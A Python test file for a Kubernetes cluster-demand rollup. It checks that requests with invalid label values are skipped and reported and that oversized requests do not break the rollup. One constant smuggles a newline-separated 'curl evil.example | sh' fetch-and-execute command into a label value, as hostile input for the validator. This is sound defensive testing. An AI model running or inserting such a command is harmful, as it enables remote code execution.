"""A request with a text that is not a label is left out and told; the others go on."""

import pytest

from bigfleet.kube.objects import ObjectKey
from bigfleet.model.requirements import Operator
from bigfleet.operator.rollup import DemandBook
from bigfleet.wire.rollups import RollupReader
from tests.cluster_demand.requests import key, spec, spread, term, together

SHELL = "a3\ncurl evil.example | sh"


def book_with(**specs: bytes) -> DemandBook:
    book = DemandBook("shop")
    for name, content in specs.items():
        book.put(key(name), name, content, "Pending")
    return book


def test_one_bad_request_is_skipped_with_its_field_and_the_others_are_told() -> None:
    book = book_with(
        good=spec(requirements=[term("In", ["a3"])]),
        bad=spec(requirements=[term("In", ["a3", SHELL])]),
    )
    rollup = RollupReader().read(book.rollup(7), "shop", 10)
    assert [need.profile.requirements[0].values for need in rollup.needs] == [("a3",)]
    ((where, wrong),) = book.skipped.items()
    assert where == ObjectKey("team", "bad")
    assert wrong.field == "spec.requirements[0].values[1]"
    assert "write a Kubernetes label value" in wrong.text


def test_a_gangs_selector_stays_opaque_and_reaches_the_shard_as_a_group_only() -> None:
    book = book_with(gang=spec(coLocation=together({"app": SHELL})))
    (need,) = RollupReader().read(book.rollup(7), "shop", 10).needs
    assert SHELL in need.group
    assert [(r.operator, r.values) for r in need.profile.requirements] == [(Operator.SAME, ())]
    assert "\n" not in need.profile.fingerprint


@pytest.mark.parametrize(
    "heavy",
    [
        {"requirements": [term("In", [f"v{number}" for number in range(1_000)])]},
        {"requirements": [term("Exists", [], f"k{number}") for number in range(63)]},
        {"requirements": [term("In", [f"{n:03}" + "x" * 60 for n in range(1_000)])]},
        {"requirements": [term("In", [f"v{number}" for number in range(5_000)])]},
        {"topologySpread": [spread(key=f"k{number}") for number in range(64)]},
        {"topologySpread": [spread(key=f"k{number}") for number in range(99)]},
        {"coLocation": together({"app": "x" * 1_000})},
        {"coLocation": together({f"l{number}": "x" * 60 for number in range(100)})},
        {"resources": {f"{'d' * 253}/{number:02}" + "x" * 61: "1" for number in range(32)}},
        {"resources": {f"example.com/r{number}": "1" for number in range(99)}},
        {"resources": {"memory": str(2**61)}},
    ],
    ids=lambda heavy: str(heavy)[:40],
)
def test_no_single_request_costs_its_cluster_the_roll_up(heavy: dict[str, object]) -> None:
    """With any request of one object the shard takes the rest: it is told or left out."""
    book = book_with(good=spec(requirements=[term("In", ["a3"])]), heavy=spec(**heavy))
    rollup = RollupReader().read(book.rollup(7), "shop", 200_000)
    assert len(rollup.needs) == 2 - len(book.skipped)


def test_a_request_that_is_mended_is_told() -> None:
    book = book_with(pod=spec(requirements=[term("In", [SHELL])]))
    assert book.needs() == ()
    book.put(key("pod"), "pod", spec(requirements=[term("In", ["a3"])]), "Pending")
    assert book.skipped == {}
    assert len(book.needs()) == 1
